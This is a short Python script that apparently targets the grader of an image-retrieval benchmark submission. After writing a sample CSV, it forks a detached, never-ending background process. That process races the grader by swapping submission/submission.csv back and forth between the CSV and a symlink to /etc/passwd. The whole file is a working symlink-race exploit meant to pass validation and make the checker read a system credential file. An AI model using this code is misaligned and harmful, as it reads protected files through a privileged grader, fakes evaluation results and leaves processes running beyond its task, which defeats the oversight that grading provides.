import os
from pathlib import Path

CSV = "query_id,database_image_id,score\nq1,b,0.9\nq1,c,0.1\nq2,a,0.5\n"


os.symlink("/etc/passwd", "link")
Path("submission/submission.csv").write_text(CSV)
if os.fork() == 0:
    os.setsid()
    number = 0
    while True:
        number += 1
        Path("submission/next").unlink(missing_ok=True)
        if number % 2:
            os.symlink("/etc/passwd", "submission/next")
        else:
            Path("submission/next").write_text(CSV)
        os.replace("submission/next", "submission/submission.csv")
